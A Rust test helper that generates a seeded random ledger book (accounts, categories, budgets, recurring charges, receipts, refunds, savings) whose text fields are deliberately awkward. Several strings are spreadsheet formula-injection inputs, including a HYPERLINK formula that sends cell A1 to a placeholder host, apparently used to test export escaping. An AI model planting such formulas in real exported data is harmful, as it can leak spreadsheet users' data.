//! A book that a seed decides, with something of everything in it: names that programs take for something else, accounts that
//! became part of others, categories that are gone, entries that were taken back, what comes again.

use chrono::{DateTime, Days, NaiveDate, TimeDelta, Utc};
use ledger::{
    Currency, Direction, Money, Reason,
    book::{
        account::{self, AccountStatus, NewAccount, PAYABLE, RECEIVABLE},
        budget::{Rewritten, Span},
        filing_rule::{self, Condition, NewFilingRule},
        holdings::Holdings,
        lesson::{self, Teaching},
        names,
        own_category::{self, Fate, OwnCategory},
        party, plan,
        receipt::{self, NewReceipt, Sums},
        receipt_item::{self, NewItem},
        recurring::{
            self, Mode, NewRecurring,
            days::{self, Calendar, DayStatus, Turn},
        },
        saving::{self, GoalStatus, MovementDirection, NewMovement},
        transaction::{self, EntryStatus, NewTransaction, Source, Transaction},
    },
    db::{Batch, Database},
    history::change::ChangeKind,
    messages::perceived::Reader,
    people::user::Person,
    rates::{self, DayRate, RateSource},
    values::recurrence::{Recurrence, Unit},
};
use rand::{Rng, SeedableRng, rngs::StdRng, seq::IndexedRandom};

use crate::support::books::{change, entry, idr, instant};

const WORDS: [&str; 14] = [
    "kopi, teh \"manis\"",
    "=HYPERLINK(\"http://contoh.invalid/?\"&A1,\"klik\")",
    "+62 pulsa",
    "-2+3 mie",
    "@warung",
    "\t=1+1",
    "'=1+1",
    "''",
    "satu\r\ndua",
    "<b>&amp;</b>",
    "nasi: padang; [BCA]",
    "☕ café",
    "  ",
    "beli kopi;=1+1;\"@x\"",
];
const ACCOUNTS: [&str; 6] = ["BCA", "-Dompet", "Kartu Kredit", "Wise: $", RECEIVABLE, PAYABLE];
const FIRST: &str = "2026-09-01T03:00:00Z";

/// Writes such a book for somebody.
pub(super) async fn book(database: &Database, person: &Person, seed: u64) {
    let mut random = StdRng::seed_from_u64(seed);
    let rows = named_rows(database, person, &mut random).await;
    beside(database, person, &rows, &mut random).await;
    for _ in 0..random.random_range(0..12) {
        entries(database, person, &rows, &mut random).await;
    }
    savings(database, person, &rows, &mut random).await;
}

/// What entries may name.
struct Rows {
    accounts: Vec<i64>,
    parties: Vec<i64>,
    categories: Vec<i64>,
    own: OwnCategory,
}

fn usd(minor: i64) -> Money {
    Money::from_sum(minor, Currency::from_code("USD").expect("a currency"))
}

fn at(random: &mut StdRng) -> DateTime<Utc> {
    instant(FIRST) + TimeDelta::seconds(random.random_range(0..90 * 86_400))
}

fn day(random: &mut StdRng) -> NaiveDate {
    at(random).date_naive()
}

fn words(random: &mut StdRng) -> Option<String> {
    WORDS.choose(random).filter(|_| random.random_bool(0.8)).map(|words| (*words).to_owned())
}

/// Accounts, parties and categories, some of which are gone again.
async fn named_rows(database: &Database, person: &Person, random: &mut StdRng) -> Rows {
    let opening = random.random_bool(0.5).then(|| (idr(random.random_range(-500..5_000)), day(random)));
    let fates = [random.random_bool(0.3), random.random_bool(0.3), random.random_bool(0.3)];
    let names = names::of(database, person).await.expect("read");
    let rows = change(database, person, ChangeKind::Accounts, |change, id| {
        ACCOUNTS.map(|name| {
            let opening = opening.filter(|_| name == "BCA");
            account::open(change, id(), &NewAccount { opening, ..NewAccount::named(name) })
        })
    });
    let mut accounts = rows.await.expect("opened").to_vec();
    let rows = change(database, person, ChangeKind::Accounts, |change, id| {
        if fates[0] {
            let part = accounts[1].clone().merged_into(accounts[0].id);
            account::amend(change, &accounts[1], part);
        }
        if fates[1] {
            let closed = accounts[3].clone().with_status(AccountStatus::Closed);
            account::amend(change, &accounts[3], closed);
            accounts.push(account::open(change, id(), &NewAccount::named("wise: $")));
        }
        let parties = ["Andi", "=Sari"].map(|name| party::note(change, id(), name).id).to_vec();
        let own = own_category::create(change, id(), Direction::Expense, "Jajanan", &["cilok".to_owned()]);
        let gone = own_category::create(change, id(), Direction::Expense, "Kopi", &[]);
        let mask = names.categories.by_key("transport").expect("a default");
        let fate =
            if fates[2] { Fate::Renamed("@Jalan".to_owned()) } else { Fate::Merged("makan".to_owned()) };
        own_category::decide_fate(change, id(), mask, None, &fate);
        let accounts = accounts.iter().map(|account| account.id).collect();
        Rows { accounts, parties, categories: vec![1, 2, 5, own.id, gone.id], own }
    });
    let rows = rows.await.expect("opened");
    let names = names::of(database, person).await.expect("read");
    let gone = names.categories.by_id(rows.categories[4]).expect("a category").clone();
    let row = own_category::of_key(database, person, &gone).await.expect("read");
    change(database, person, ChangeKind::Category, |change, id| {
        own_category::decide_fate(change, id(), &gone, row.as_ref(), &Fate::Dropped);
        own_category::create(change, id(), Direction::Expense, "kopi", &[]);
    })
    .await
    .expect("dropped");
    rows
}

/// What stands beside entries: a budget, a lesson, a plan, and something that comes again, with an entry of it.
async fn beside(database: &Database, person: &Person, rows: &Rows, random: &mut StdRng) {
    let (day, money) = (day(random), idr(random.random_range(1..900)));
    let mode = if random.random_bool(0.5) { Mode::Ask } else { Mode::Book };
    let opened = change(database, person, ChangeKind::Budgets, |change, id| {
        for category in ["", "makan", &*own_category::key_of(rows.own.id)] {
            let began = Rewritten::beginning(category, Span::Month, money, true, (day, &person.months));
            began.write(change, id());
        }
        let category = own_category::key_of(rows.own.id);
        let teaching = Teaching { direction: Direction::Expense, phrase: "cilok".to_owned(), category };
        lesson::teach(change, id(), None, &teaching);
        plan::open(change, id(), ("=HP", Some(rows.accounts[2])), (money, 12), day);
        let new = NewRecurring {
            name: "netflix: keluarga".to_owned(),
            direction: Direction::Expense,
            money,
            category_id: Some(rows.own.id),
            account_id: Some(rows.accounts[0]),
            to_account_id: None,
            rule: Recurrence::from(1, Unit::Month, day),
            mode,
            starts_on: day,
            ends_on: None,
        };
        recurring::open(change, id(), new)
    });
    let opened = opened.await.expect("written");
    change(database, person, ChangeKind::Edit, |change, id| {
        let later = day.checked_add_days(Days::new(20)).expect("a day");
        let dearer = opened.clone().with_money(idr(999));
        let went_on = recurring::go_on_as(change, id(), &opened, dearer, later);
        let again = NewTransaction { source: Source::Recurring, ..entry(Direction::Expense, 54, 10, FIRST) };
        transaction::book_once(change, id(), again, days::reference(&went_on, day));
    })
    .await
    .expect("written");
    days_of(database, person, random).await;
    decided(database, person, rows, random).await;
}

/// What became of the days that have fallen due, and of one that is to come.
async fn days_of(database: &Database, person: &Person, random: &mut StdRng) {
    let all = recurring::of(database, person).await.expect("read");
    let due = days::due(&all, &Calendar::default(), person, instant(super::AT));
    let went_on = all.iter().find(|row| row.ends_on.is_none()).expect("one goes on");
    let ahead = went_on.next_from(super::day(21)).expect("it goes on");
    let ahead = Turn { recurring: went_on.clone(), day: ahead, money: idr(777), noted: None };
    let next = *[DayStatus::Skipped, DayStatus::Moved].choose(random).expect("one");
    change(database, person, ChangeKind::Edit, |change, id| {
        for turn in &due {
            let status = *[DayStatus::Skipped, DayStatus::Asked].choose(random).expect("one");
            days::note(change, id(), turn, status, None);
        }
        days::note(change, id(), &ahead, next, None);
    })
    .await
    .expect("noted");
}

/// A rule with bounds, and a rate that was said.
async fn decided(database: &Database, person: &Person, rows: &Rows, random: &mut StdRng) {
    let usd = usd(random.random_range(1..10_000));
    change(database, person, ChangeKind::Category, |change, id| {
        let condition = Condition {
            currency: Some(usd.currency()),
            least: Some(usd.minor()),
            ..Condition::of_words(["=toko"])
        };
        let account_id = Some(rows.accounts[0]);
        let new = NewFilingRule { condition, account_id, category: "makan".to_owned(), position: 1 };
        filing_rule::open(change, id(), new);
    })
    .await
    .expect("opened");
    let of_day = DayRate {
        day: day(random),
        base: usd.currency(),
        quote: Currency::IDR,
        rate: "16400.5".parse().expect("a rate"),
        source: RateSource::Hand,
    };
    let id = database.ids(1).await.expect("an id").take();
    let mut batch = Batch::default();
    rates::say(&mut batch, id, (person.book, person.id), &of_day, instant(FIRST));
    database.write(batch).await.expect("said");
}

/// A few entries as one change; some are taken back by the next.
async fn entries(database: &Database, person: &Person, rows: &Rows, random: &mut StdRng) {
    let count = random.random_range(1..5);
    let news: Vec<NewTransaction> = (0..count).map(|_| new_entry(rows, random)).collect();
    let has_paper = random.random_bool(0.3);
    let booked = change(database, person, ChangeKind::Booking, |change, id| {
        let paper = has_paper.then(|| receipt::keep(change, id(), new_receipt()).id);
        let booked: Vec<Transaction> = news
            .into_iter()
            .map(|new| transaction::book(change, id(), NewTransaction { receipt_id: paper, ..new }))
            .collect();
        if let Some(paper) = paper {
            receipt_item::keep(change, id(), (paper, 1), new_item());
        }
        let spent = booked.iter().find(|row| row.direction == Direction::Expense);
        if let Some(spent) = spent {
            let category_id = spent.category_id;
            let back = NewTransaction {
                category_id,
                money: Money::from_sum(spent.money().minor().min(100), spent.money().currency()),
                refund_of: Some(spent.id),
                ..entry(Direction::Income, 1, 1, FIRST)
            };
            transaction::book(change, id(), back);
        }
        booked
    });
    let booked = booked.await.expect("booked");
    if random.random_bool(0.3) {
        change(database, person, ChangeKind::Void, |change, _| {
            transaction::settle(change, &booked[0], EntryStatus::Deleted);
        })
        .await
        .expect("taken back");
    }
}

fn new_entry(rows: &Rows, random: &mut StdRng) -> NewTransaction {
    let direction = *[Direction::Expense, Direction::Expense, Direction::Income, Direction::Transfer]
        .choose(random)
        .expect("a direction");
    let is_transfer = direction == Direction::Transfer;
    let is_foreign = random.random_bool(0.2);
    let category = if direction == Direction::Income {
        *[17, 20, 1].choose(random).expect("a category")
    } else {
        *rows.categories.choose(random).expect("a category")
    };
    let mut account = || rows.accounts.choose(random).copied();
    let (from, to) = (account(), account());
    let mut new = NewTransaction {
        account_id: from,
        to_account_id: to.filter(|_| is_transfer),
        description: words(random),
        merchant: words(random),
        note: words(random),
        party_id: rows.parties.choose(random).copied().filter(|_| is_transfer),
        category_reason: Some(Reason::Lexicon("kopi".to_owned())).filter(|_| !is_transfer),
        ..entry(direction, random.random_range(1..100_000), category, FIRST)
    };
    new.at = at(random);
    if is_foreign {
        new.money = usd(random.random_range(1..10_000));
        new.to_money = is_transfer.then(|| idr(random.random_range(1..10_000)));
    }
    new
}

/// A paper in another currency, with words that look like formulas.
pub(super) fn new_receipt() -> NewReceipt {
    NewReceipt {
        message_id: None,
        kind: "shop".to_owned(),
        merchant: Some("=Toko Sari".to_owned()),
        total: usd(1_250),
        sums: Sums { rounding: Some(-3), tax: Some(0), ..Sums::default() },
        paid_by: None,
        reference: Some("-1".to_owned()),
        bought_on: None,
        bought_at_minute: Some(600),
        confidence_percent: 97,
        readers: vec![Reader::Paddle],
    }
}

fn new_item() -> NewItem {
    NewItem {
        name: "Kopi".to_owned(),
        quantity_thousandths: 1_500,
        unit: Some("kg".to_owned()),
        unit_amount: Some(833),
        line_amount: 1_250,
        discount: Some(5),
        category: Some("makan".to_owned()),
    }
}

/// A goal with what went in and came out of it.
async fn savings(database: &Database, person: &Person, rows: &Rows, random: &mut StdRng) {
    let mut holdings = Holdings::of(database, person).await.expect("read");
    let (deposit, at) = (random.random_range(100..900), at(random));
    change(database, person, ChangeKind::Booking, |change, id| {
        let goal = id();
        let opened = ("=laptop", Some(idr(15_000_000)));
        saving::open(change, &mut holdings, goal, opened, GoalStatus::Active);
        for (direction, units) in [(MovementDirection::Deposit, deposit), (MovementDirection::Withdraw, 50)] {
            let new = NewMovement {
                goal_id: goal,
                direction,
                money: idr(units),
                account_id: Some(rows.accounts[0]),
                at,
                source: Source::Api,
                status: EntryStatus::Confirmed,
            };
            saving::book(change, &mut holdings, id(), &new);
        }
    })
    .await
    .expect("saved");
}
